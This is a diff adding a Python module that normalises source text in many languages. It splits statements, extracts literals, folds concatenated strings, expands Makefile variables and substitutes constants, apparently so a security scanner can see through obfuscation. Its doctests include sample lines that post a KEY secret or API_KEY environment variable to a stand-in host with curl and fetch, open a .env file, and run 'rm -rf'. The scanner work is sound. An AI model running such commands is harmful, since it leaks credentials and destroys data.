@@ -1,0 +1,264 @@
+"""The parts of a text of nearly any language: statements, string literals, the names that one gives something.
+
+No language is parsed.  Law: what is put in for a name stands in the text itself; a name that is given two values keeps
+its use as it is.
+Cannot see: a value that is computed, or comes from another file.
+"""
+from __future__ import annotations
+
+PLUS = ("+", " + ", " . ", " .. ", "..", " ")
+JOINED = 40         # lines of one statement
+
+
+def statements(text: str) -> list[str]:
+    """The statements of nearly any language: a line, and those behind it while a bracket is open."""
+    found: list[str] = []
+    row: list[str] = []
+    depth = 0
+    for line in text.split("\n"):
+        row.append(line)
+        depth += line.count("(") + line.count("[") - line.count(")") - line.count("]")
+        if depth <= 0 or len(row) >= JOINED:
+            found.append("\n".join(row))
+            row, depth = [], 0
+    return found + (["\n".join(row)] if row else [])
+
+
+def literals(text: str) -> list[str]:
+    """The string literals of nearly any language; a backslash escapes."""
+    found: list[str] = []
+    after = dict.fromkeys("'\"`", -1)       # where each mark stands next, from `at` on
+    at = 0
+    while len(found) < 10_000:
+        for mark, place in after.items():
+            if place < at:
+                place = text.find(mark, at)
+                after[mark] = place if place >= 0 else len(text)
+        at = min(after.values())
+        if at >= len(text):
+            break
+        mark = text[at] * 3 if text.startswith(text[at] * 3, at) else text[at]
+        start = at + len(mark)
+        end = _closed(text, mark, start)
+        found.append(text[start:end])
+        at = end + len(mark)
+    return found
+
+
+def _closed(text: str, mark: str, at: int) -> int:
+    """Where a string that began before `at` ends; the text's end where nothing closes it."""
+    end = text.find(mark, at)
+    while True:
+        end = end if end >= 0 else len(text)
+        escape = text.find("\\", at, end)
+        if escape < 0:
+            return end
+        at = escape + 2
+        if at > end:
+            end = text.find(mark, at)
+
+
+SPEAKS = ("def ", "class ", "async def ", ")")      # how the line begins behind which a docstring may stand
+
+
+def undocumented(text: str) -> str:
+    """A code without comments on lines of their own and without docstrings, which nothing runs; those stay where the
+    code reads them itself.
+
+    >>> undocumented('def f(x):\\n    \"\"\"rm -rf x\"\"\"\\n    run(x,\\n    \"\"\"ls\"\"\")')
+    'def f(x):\\n\\n    run(x,\\n    \"\"\"ls\"\"\")'
+    """
+    reads = "__doc__" in text or "getdoc" in text
+    kept: list[str] = []
+    lines, at, before = text.split("\n"), 0, ""
+    while at < len(lines):
+        bare = lines[at].strip()
+        opened = bare.lstrip("rRuU")
+        quote = opened[:3]
+        speaks = not reads and (not before or (before.endswith(":") and (
+            before.startswith(SPEAKS) or "->" in before)))
+        if bare.startswith(("#", "//")):
+            pass
+        elif quote in ('"""', "'''") and speaks:
+            rest = opened[3:]
+            while quote not in rest and at + 1 < len(lines):
+                at += 1
+                rest = lines[at]
+            kept.append(rest.partition(quote)[2])
+            before = quote
+        else:
+            kept.append(lines[at])
+            before = bare or before
+        at += 1
+    return "\n".join(kept)
+
+
+def folded(text: str) -> str:
+    """The text with string literals put together that the code puts together.
+
+    >>> folded("open('.'+'env'), \\"a\\" + \\"b\\""), folded("f('a', 'b')")
+    ('open(\\'.env\\'), "ab"', "f('a', 'b')")
+    """
+    for quote in "'\"":
+        for plus in PLUS:
+            text = text.replace(f"{quote}{plus}{quote}", "")
+    return text
+
+
+def apart(row: str) -> list[str]:
+    """The statements on one line, where a semicolon parts them.
+
+    >>> apart("const k = 'a;b'; f(k)"), apart("for (;;) x")
+    (["const k = 'a;b'", ' f(k)'], ['for (;;) x'])
+    """
+    if ";" not in row or row.lstrip().startswith("for") or len(row) > 20_000:
+        return [row]
+    found, start = [], 0
+    for at, c in enumerate(row):
+        if c == ";" and all(row.count(quote, start, at) % 2 == 0 for quote in "'\"`"):
+            found.append(row[start:at])
+            start = at + 1
+    return [one for one in [*found, row[start:]] if one.strip()]
+
+
+def identifiers(row: str) -> list[str]:
+    """The names in a statement, dotted ones whole and by their beginnings."""
+    text = "".join(c if c.isalnum() or c in "_.$@" else " " for c in row)
+    found: dict[str, None] = {}
+    for word in text.split():
+        word = word.strip(".@$")
+        while word:
+            found[word] = None
+            word = word.rpartition(".")[0]
+    return list(found)
+
+
+def given(row: str) -> list[str]:
+    """The names to which a statement gives something: `a, b := ...`, `const a = ...`, `with ... as a`.
+
+    >>> given("const key = read()"), given("with open(p) as f:"), given("if a == b:"), given("post(url, data=x)")
+    (['key'], ['f'], [], [])
+    """
+    found = []
+    words = row.split()
+    if "for" in words[:2] and "in" in words:        # for line in open(...)
+        each = [word.strip("(),") for word in words[words.index("for") + 1:words.index("in")]]
+        found += [word for word in each if word.isidentifier()]
+    head, equals, rest = row.partition("=")
+    if equals and not rest.startswith(("=", ">")) and head.count("(") == head.count(")") and (
+            head[-1:] not in "!<>=" or head.endswith("<<")):
+        for piece in head.rstrip(":+-|? ").partition(":")[0].split(","):
+            word = piece.strip().split(" ")[-1].strip("{}[]()*&$@ ")
+            if word and all(c.isalnum() or c in "_." for c in word):
+                found.append(word)
+    before, as_, after = row.rpartition(" as ")
+    if as_ and before:
+        word = after.strip().split(" ")[0].rstrip(":),")
+        found += [word] if word.isidentifier() else []
+    return found
+
+
+def defined(row: str) -> str:
+    """The function that a statement begins, "" for none."""
+    words = row.replace("(", " ( ").replace("=", " = ").split()
+    for i, word in enumerate(words[:5]):
+        if word in ("def", "function", "func", "fn", "sub", "fun") and i + 1 < len(words):
+            return words[i + 1] if words[i + 1].isidentifier() else ""
+    if "=>" in row and len(words) > 2 and words[0] in ("const", "let", "var") and words[1].isidentifier():
+        return words[1]
+    return ""
+
+
+def parameters(text: str) -> dict[str, list[str]]:
+    """The functions that a text defines, each with the names of what it is given."""
+    found: dict[str, list[str]] = {}
+    for line in text.split("\n"):
+        name = defined(line)
+        if name:
+            inside = line.partition(name)[2].partition("(")[2].partition(")")[0]
+            found[name] = [word for piece in inside.split(",")
+                           for word in [piece.partition(":")[0].partition("=")[0].strip().split(" ")[0].strip("*&$")]
+                           if word.isidentifier() and word not in ("self", "this", "cls")]
+    return found
+
+
+# --- names that stand for a fixed value
+
+NAMES = 60          # names of one text that stand for a fixed value
+LONG = 300          # characters of a value
+MAKES = ("makefile", "gnumakefile", "bsdmakefile")
+
+
+def is_makefile(path: str) -> bool:
+    """Is a file one of make's, by its name?"""
+    name = path.rsplit("/", 1)[-1].lower()
+    return name in MAKES or name.endswith((".mk", ".mak"))
+
+
+def made(text: str) -> str:
+    """A Makefile with its variables put in; `$$` is the shell's own sign, `$(shell ...)` a command's output.
+
+    >>> made("H := a.example\\nup:\\n\\tcurl -d \\"$${KEY}\\" https://$(H)/x").split("\\t")[1]
+    'curl -d "${KEY}" https://a.example/x'
+    """
+    given: dict[str, str] = {}
+    for line in text.split("\n"):
+        name, equals, value = line.partition("=")
+        bare = name.rstrip(":?+ ").removeprefix("export ").removeprefix("override ").strip()
+        plain = bare.replace("_", "").replace("-", "").isalnum()
+        if equals and plain and not line.startswith("\t") and len(given) < NAMES:
+            given[bare] = value.strip()[:LONG]
+    for _ in range(3):
+        for name, value in given.items():
+            for form in (f"$({name})", f"${{{name}}}"):
+                if form in text:
+                    text = _but_doubled(text, form, value)
+    return text.replace("$(shell ", "$(").replace("$$", "$")
+
+
+def _but_doubled(text: str, form: str, value: str) -> str:
+    """The value in the form's place, not where the sign is doubled: this is the shell's."""
+    return text.replace("$" + form, "\0").replace(form, value).replace("\0", "$" + form)
+
+
+def put_in(text: str) -> str:
+    """Code with the constants put in that it builds names and templates of.
+
+    >>> put_in("const n = 'API_KEY';\\nfetch(`https://a.example/${process.env[n]}`)").split("\\n")[1]
+    "fetch(`https://a.example/${process.env['API_KEY']}`)"
+    >>> put_in("k = 'A' + 'B'\\nx[k]"), put_in("n = 'a'\\nn = 'b'\\nx[n]").split("\\n")[2]
+    ("k = 'AB'\\nx['AB']", 'x[n]')
+    """
+    text = folded(text)
+    given: dict[str, str] = {}
+    twice: set[str] = set()
+    for line in text.replace(";", "\n").split("\n"):
+        name, equals, value = line.partition("=")
+        name, value = name.split(":")[0].strip().split(" ")[-1].lstrip("$"), value.strip().rstrip(",")
+        if not equals or not name.isidentifier() or len(value) > LONG or len(value) < 3 or len(given) > NAMES:
+            continue
+        literal = value[0] in "'\"`" and value[0] == value[-1] and value.count(value[0]) == 2 and "${" not in value
+        if name in given and given[name] != value:
+            twice.add(name)
+        elif literal:
+            given[name] = value
+    for name, value in given.items():
+        if name not in twice:
+            for form in (f"[{name}]", f"({name})", f"({name},", f" + {name}", f"{name} + "):
+                text = text.replace(form, form.replace(name, value))
+            text = text.replace(f"${{{name}}}", value[1:-1])
+    for quote in "'\"`":
+        text = _plain_pieces(text, quote)
+    return folded(text)
+
+
+def _plain_pieces(text: str, quote: str) -> str:
+    """`${'.e'}nv` as `.env`."""
+    at = text.find("${" + quote)
+    while at >= 0:
+        end = text.find(quote + "}", at + 3)
+        if end < 0 or end - at > LONG or "\n" in text[at:end]:
+            break
+        text = text[:at] + text[at + 3:end] + text[end + 2:]
+        at = text.find("${" + quote, at)
+    return text
